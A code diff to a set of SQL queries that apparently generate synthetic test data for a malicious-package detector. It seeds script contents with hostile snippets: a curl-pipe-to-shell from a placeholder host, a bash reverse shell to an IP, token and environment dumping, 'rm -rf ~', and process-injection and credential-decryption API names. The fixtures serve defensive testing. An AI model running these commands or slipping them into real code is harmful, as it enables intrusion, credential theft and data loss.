@@ -59,7 +59,7 @@ FROM events""",
   FROM lineitem) t WHERE dst IS NOT NULL AND dst <> src""",
     "releases": f"SELECT l_partkey AS package_id, {_ROW} AS release_id, l_shipdate AS published_at FROM lineitem",
     "contributor_activity": "SELECT regexp_extract(props, '([0-9]+)', 1) AS repo, user_id AS login, (ts >= timestamp '2024-01-16 00:00:00') AS is_current FROM events",
-    "script_sources": """SELECT doc_id AS source_id, doc_id % 50 AS package_id, concat(text, chr(10), CASE doc_id % 20
+    "script_sources": """SELECT doc_id AS source_id, doc_id % 51 AS package_id, concat(text, chr(10), CASE doc_id % 20
   WHEN 0 THEN 'curl -s https://stage.example.test/a.sh | sh'  WHEN 1 THEN 'eval(await fetch(u))'
   WHEN 2 THEN 'require("child_process").execSync(cmd)'        WHEN 3 THEN 'new Function (body)'
   WHEN 4 THEN 'const t = process.env.NPM_TOKEN'               WHEN 5 THEN 'JSON.stringify(process.env)'
@@ -67,6 +67,8 @@ FROM events""",
   WHEN 8 THEN 'rm -rf ~ '                                     WHEN 9 THEN 'bash -i >& /dev/tcp/198.51.100.7/4444'
   WHEN 10 THEN concat('atob("', repeat('QUJD', 40), '")')     WHEN 11 THEN 'exec(base64.b64decode(p))'
   WHEN 12 THEN 'stratum+tcp://pool.example.test:3333'         WHEN 13 THEN 'crontab -l'
+  WHEN 14 THEN 'OpenProcess VirtualAllocEx WriteProcessMemory CreateRemoteThread'
+  WHEN 15 THEN 'CryptUnprotectData, sqlite3_open and getpwuid' WHEN 16 THEN 'ptrace dlopen'
   ELSE '' END) AS content FROM documents""",
     "model_log": "SELECT role AS model, conv_id, turn, cast(length(text) AS bigint) AS latency_ms, (turn % 5 <> 0) AS success FROM conversations",
 }
